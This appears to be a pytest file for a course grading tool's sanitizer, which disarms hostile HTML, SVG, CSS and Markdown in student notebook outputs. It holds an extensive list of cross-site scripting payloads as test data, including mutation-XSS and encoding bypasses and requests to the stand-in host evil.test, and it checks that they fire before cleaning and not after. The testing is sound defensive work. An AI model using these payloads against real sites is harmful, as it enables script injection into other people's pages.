"""What a student's notebook shows, made harmless: hostile HTML, SVG, styles, Markdown, and ordinary outputs."""

import base64
import io
import re
from html.parser import HTMLParser
from typing import Any

import matplotlib.pyplot as plt
import nbformat
import numpy as np
import pandas as pd
import pytest
from nbconvert.exporters import HTMLExporter

from course_tools.grading.intake import sanitize

# Each calls hit() when it acts, or asks evil.test for something.
HOSTILE = {
    "script": "<script>hit()</script>",
    "script, never closed": "<b>x</b><script>hit()",
    "script, split by a script": "<scr<script></script>ipt>hit()</scr<script></script>ipt>",
    "script, with odd spelling": "<ScRiPt\x0csrc=//evil.test/x.js></sCrIpT >",
    "script in SVG": "<svg><script>hit()</script></svg>",
    "script in SVG, by address": (
        "<svg><script href='//evil.test/x.js' xlink:href='data:text/javascript,hit()'/></svg>"
    ),
    "handler": "<img src=x onerror=hit()>",
    "handler, without spaces": "<img/src=x/onerror=hit()>",
    "handler, with a newline in it": "<p on\nclick=hit() onmouseover\n=\nhit()>x</p>",
    "handler of SVG": "<svg onload=hit()><circle r=9 onbegin=hit() onfocus=hit() tabindex=1 autofocus></svg>",
    "handler of details": "<details open ontoggle=hit()><summary>x</summary>y</details>",
    "handler of a new element": "<dialog open onclose=hit()><video src=x onerror=hit()><audio src=x onerror=hit()>",
    "animation": "<svg><animate onbegin=hit() attributeName=x dur=1s><set onend=hit()></svg>",
    "animated address": "<svg><a><animate attributeName=href values='javascript:hit()'/><text y=9>x</text></a></svg>",
    "javascript": "<a href='javascript:hit()'>x</a>",
    "javascript in capitals": "<a href='JaVaScRiPt:hit()'>x</a>",
    "javascript with a tab": "<a href='java\tscript:hit()'>x</a>",
    "javascript with entities": "<a href='&#106;&#x61;vascript&colon;hit()'>x</a>",
    "javascript with newlines": "<a href='java&NewLine;script&Tab;:hit()'>x</a>",
    "javascript after a control character": "<a href='\x01javascript:hit()'>x</a>",
    "javascript in SVG": "<svg><a xlink:href='javascript:hit()'><text y=9>x</text></a></svg>",
    "javascript in a form": "<form action='javascript:hit()'><button formaction='javascript:hit()'>x</button></form>",
    "javascript in a frame": "<iframe src='javascript:parent.hit()' srcdoc='<script>parent.hit()</script>'></iframe>",
    "javascript in a picture": "<img src='javascript:hit()'><input type=image src='javascript:hit()'>",
    "vbscript": "<a href='vbscript:hit()'>x</a>",
    "data as a link": "<a href=' data:text/html,<script>hit()</script>'>x</a>",
    "data with a tab": "<a href='da\tta:text/html,<script>hit()</script>'>x</a>",
    "data as a frame": "<object data='data:text/html,<script>hit()</script>'></object><embed src='data:text/html,x'>",
    "data as a picture of SVG": "<img src='data:image/svg+xml,<svg onload=hit() xmlns=http://www.w3.org/2000/svg/>'>",
    "data as a picture that is none": "<img src='data:image/png;base64,x\" onerror=hit() y=\"'>",
    "use of another file": "<svg><use href='//evil.test/x#y'/><use xlink:href='data:image/svg+xml,<svg/>#y'/></svg>",
    "picture of another host": "<img src='https://evil.test/x.png' srcset='https://evil.test/y.png 2x'>",
    "picture in SVG": "<svg><image href='//evil.test/x.png'/><feImage href='//evil.test/x.png'/></svg>",
    "foreign object": (
        "<svg><foreignObject><iframe src='//evil.test'></iframe><p onclick=hit()>x</p></foreignObject></svg>"
    ),
    "style sheet": "<style>@import '//evil.test/x.css'; p{background:url(//evil.test/x)}</style><p>x</p>",
    "style sheet in SVG": "<svg><style>*{fill:url(//evil.test/x)}</style><rect/></svg>",
    "style with url": (
        "<p style='background:url(//evil.test/x)'>x</p><b style='color:red;background-image:url(//evil.test)'>"
    ),
    "style with url, escaped": (
        "<p style='fill:u\\72l(//evil.test/x);background-color:\\75\\72\\6c(//evil.test/y)'>x</p>"
    ),
    "style with image-set": "<p style='background-color:image-set(\"//evil.test/x\" 1x)'>x</p>",
    "style with entities": "<p style='color&colon;red;border:1px &#117;rl(//evil.test/x)'>x</p>",
    "style with an old expression": (
        "<p style='width:expression(hit());behavior:url(#x);-moz-binding:url(//evil.test)'>x</p>"
    ),
    "style that covers the page": "<a href='#' style='position:fixed;inset:0;z-index:9999'>x</a>",
    "paint of another host": "<svg><rect fill='url(//evil.test/x#y)' clip-path=' URL (//evil.test/x#y)'/></svg>",
    "page": (
        "<meta http-equiv=refresh content='0;url=//evil.test'>"
        "<base href='//evil.test/'><link rel=stylesheet href='//evil.test'>"
    ),
    "mutation: noscript": "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
    "mutation: style in MathML": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=hit()&gt;'>"
    ),
    "mutation: form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "mutation: title in SVG": "<svg><title><style><img title='</style><img src=x onerror=hit()>'></title></svg>",
    "mutation: desc in SVG": "<svg></p><desc><style><a id='</style><img src=x onerror=hit()>'></desc></svg>",
    "mutation: textarea": "<textarea><img title='</textarea><img src=x onerror=hit()>'></textarea>",
    "mutation: template": (
        "<template><script>hit()</script></template><svg><template><img src=x onerror=hit()></template></svg>"
    ),
    "mutation: comment": "<!--><img src=x onerror=hit()>--><!--!> <img src=x onerror=hit()> -->",
    "mutation: CDATA": (
        "<svg><![CDATA[><img src=x onerror=hit()>]]></svg><math><![CDATA[</math><img src=x onerror=hit()>]]>"
    ),
    "mutation: select": (
        "<select><template><style><!--</style><a rel='--&gt;&lt;/style&gt;&lt;img src=x onerror=hit()&gt;'>"
    ),
    "mutation: deep": "<div>" * 300 + "<svg></div><style><img src=x onerror=hit()></style>" + "</div>" * 300,
    "custom element": "<x-evil onclick=hit()>x</x-evil><xss style='animation:x' onanimationend=hit()>",
    "processing instruction": (
        "<?xml-stylesheet href='//evil.test/x.xsl'?><!DOCTYPE x [<!ENTITY y SYSTEM '//evil.test'>]><p>x</p>"
    ),
    "null bytes": "<scr\0ipt>hit()</scr\0ipt><img src=x one\0rror=hit()><a href='java\0script:hit()'>x</a>",
}
MARKDOWN = {
    "link": "[x](javascript:hit())",
    "link with entities": "[x](&#106;avascript:hit()) [y](java&Tab;script:hit())",
    "link by reference": "[x][1]\n\n[1]: JAVASCRIPT:hit()",
    "automatic link": "<javascript:hit()>",
    "data": "[x](data:text/html,%3Cscript%3Ehit()%3C/script%3E)",
    "link with backslashes": "[x](javascript\\:hit()) [y](<javascript&colon;hit()>)",
    "picture": '![x](x"onerror=hit())',
    "picture with a title": "![x](x 'y\" onerror=\"hit()')",
    "HTML": "text <img src=x onerror=hit()> *text*",
    "HTML over lines": "<div\n\nonclick=hit()>\n\n<script\n>hit()</script\n>",
    "fence": "```html\n```\n<img src=x onerror=hit()>\n```",
    "fence with a name": '```"><img src=x onerror=hit()>\ncode\n```',
    "formula": "$\\text{<img src=x onerror=hit()>}$ and $$</script><script>hit()</script>$$",
}
COUNT = "() => { window.hits = 0; window.hit = () => { window.hits += 1 } }"
NO_ADDRESS = {"href", "src", "class", "title", "alt", "aria-label"}


class Elements(HTMLParser):
    """The elements of a text with their attributes, in order."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def scheme(address: str) -> str:
    """The scheme of an address as a browser reads it, empty where it has none."""
    match = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\x00-\x20]", "", address).lower())
    return match[1] if match else ""


def assert_harmless(text: str) -> None:
    """Nothing in `text` is an element, an attribute or an address that could act."""
    tags, attributes = ({name.lower() for name in names} for names in (sanitize.TAGS, sanitize._ATTRIBUTES))
    for tag, found in Elements(text).found:
        assert tag in tags, text
        assert set(found) <= attributes | {"href", "src", "rel"}, text
        if tag == "a":
            assert scheme(found.get("href", "")) in ("", "http", "https", "mailto"), text
        elif "href" in found and tag != "a":
            assert found["href"].startswith("#"), text
        assert found.get("src", "data:image/png;base64,").startswith("data:image/"), text
        for name in found.keys() - NO_ADDRESS:
            assert "(" not in found[name].replace("url(#", "") or "evil" not in found[name], text
            assert "position" not in found[name]


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_html_is_disarmed(kind: str) -> None:
    clean = sanitize.html(HOSTILE[kind])
    assert_harmless(clean)
    assert sanitize.html(clean) == clean, "what is harmless changes when it is read again"


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "text/markdown"])
def test_outputs_of_each_kind_are_disarmed(kind: str) -> None:
    for text in HOSTILE.values():
        [output] = sanitize.outputs([{"output_type": "display_data", "data": {kind: text}}]) or [{"data": {}}]
        for shown in output["data"].values():
            assert_harmless(shown)


def as_a_teacher_sees_it(output: dict[str, Any], source: str) -> str:
    """The body of nbconvert's page of a notebook with one output and one Markdown cell."""
    cells = [
        nbformat.v4.new_code_cell("", outputs=[nbformat.from_dict(output)]),
        nbformat.v4.new_markdown_cell(source),
    ]
    exporter = HTMLExporter(template_name="basic", exclude_input=True)
    return exporter.from_notebook_node(nbformat.v4.new_notebook(cells=cells))[0]


def shown(text: str) -> str:
    [output] = sanitize.outputs([{"output_type": "display_data", "data": {"text/markdown": text}}])
    return as_a_teacher_sees_it(output, sanitize.markdown(text))


@pytest.mark.parametrize("kind", MARKDOWN)
def test_hostile_markdown_is_disarmed_on_nbconverts_page(kind: str) -> None:
    for tag, found in Elements(shown(MARKDOWN[kind])).found:
        assert tag not in ("script", "iframe", "object", "embed", "form", "style", "link", "meta", "base")
        assert not [name for name in found if name.startswith("on")]
        assert scheme(found.get("href", "")) in ("", "http", "https", "mailto")


@pytest.mark.browser
def test_nothing_acts_in_a_browser(page: Any) -> None:
    """Every snippet, cleaned, in one page of Chromium: nothing calls hit(), nothing is asked of another host."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    cleaned = [*map(sanitize.html, HOSTILE.values()), *map(shown, MARKDOWN.values())]
    page.goto("about:blank")
    page.evaluate(COUNT)
    for text in cleaned:
        page.evaluate("text => document.body.insertAdjacentHTML('beforeend', text + '<hr>')", text)
    page.evaluate("[...document.querySelectorAll('*')].forEach(e => e.dispatchEvent(new Event('focus')))")
    page.wait_for_timeout(200)
    assert page.evaluate("window.hits") == 0
    assert not [address for address in asked if "evil" in address]


@pytest.mark.browser
def test_the_snippets_do_act_where_nothing_cleans_them(page: Any) -> None:
    """So that the test above can fail: many of them call hit() or ask for something as they are."""
    acted = 0
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    for text in HOSTILE.values():
        page.goto("about:blank")
        asked.clear()
        page.evaluate(COUNT)
        page.evaluate("text => { document.body.innerHTML = text }", text)
        page.wait_for_timeout(20)
        acted += bool(page.evaluate("window.hits || 0") or [address for address in asked if "evil" in address])
    assert acted >= 12


# -- ordinary outputs -----------------------------------------------------------------------------------------


def table() -> str:
    return pd.DataFrame({"loss": [0.5, 0.25], "note": ["a < b", "x & y"]})._repr_html_()


def figure() -> str:
    drawing, axes = plt.subplots()
    axes.plot([1, 2, 3], [1, 4, 9], "o--", label=r"$x^2$")
    axes.fill_between([1, 2, 3], [1, 2, 3], alpha=0.3, hatch="/")
    axes.scatter([1, 2], [3, 4], c=[0.0, 1.0])
    axes.set_title("loss & accuracy")
    axes.legend()
    buffer = io.StringIO()
    drawing.savefig(buffer, format="svg")
    plt.close(drawing)
    return buffer.getvalue()


def styled(attributes: dict[str, str]) -> dict[str, str]:
    """Attributes spelled in one way, a style's allowed declarations alone."""
    named = {name.removeprefix("xlink:"): value for name, value in attributes.items()}
    if "style" not in named:
        return named
    declarations = [part.strip().replace(": ", ":").replace('"', "") for part in named["style"].split(";")]
    return {**named, "style": ";".join(d for d in declarations if d.split(":")[0] in sanitize.STYLES)}


@pytest.mark.parametrize("make", [table, figure])
def test_a_table_and_a_figure_keep_every_element_that_shows(make: Any) -> None:
    """All but style sheets, metadata and what names an XML dialect."""
    kept = {name.lower() for name in sanitize._ATTRIBUTES} | {"href"}
    names = {tag.lower() for tag in sanitize.TAGS}
    text = make()
    before = [(tag, styled(found)) for tag, found in Elements(text).found if tag in names]
    before = [(tag, {name: value for name, value in found.items() if name in kept}) for tag, found in before]
    after = [(tag, styled(found)) for tag, found in Elements(sanitize.html(text)).found]
    assert len(after) > 10
    assert after == before


def test_pictures_formulas_and_text_stay_as_they_are() -> None:
    buffer = io.BytesIO()
    plt.imsave(buffer, np.zeros((2, 3)), format="png")
    picture = base64.b64encode(buffer.getvalue()).decode()
    for kind, value in {
        "image/png": picture,
        "text/latex": r"$\displaystyle \frac{\partial L}{\partial w} < 1 \& x$",
        "text/plain": "tensor([1., 2.]) <b> & </b>",
        "text/markdown": "**Loss** $a < b$, [docs](https://pytorch.org/docs?a=1&b=2)\n\n- one\n- two",
    }.items():
        [output] = sanitize.outputs([{"output_type": "display_data", "data": {kind: value}}])
        assert output["data"] == {kind: value}


def test_a_text_about_data_keeps_its_links() -> None:
    text = "The data: see [here](https://pytorch.org) and [1].\n\n[1]: https://pytorch.org"
    assert sanitize.markdown(text) == text


@pytest.mark.parametrize(
    "text",
    [
        '<p style="color:red;text-align:right">x</p>',
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a picture">',
        "<details><summary>hint</summary>W @ x</details>",
        '<svg viewBox="0 0 2 2"><g aria-label="W @ x" clip-path="url(#p1)">'
        '<path d="M0 0" style="fill:url(&quot;#h1&quot;)"></path></g></svg>',
        '<svg><text style="fill:var(--dl-ink, #123)">x</text></svg>',
    ],
)
def test_harmless_html_is_not_changed(text: str) -> None:
    assert sanitize.html(text) == text


def test_a_link_leaves_no_way_back_to_the_page() -> None:
    assert 'rel="noopener noreferrer"' in sanitize.html("<a href='https://pytorch.org'>x</a>")
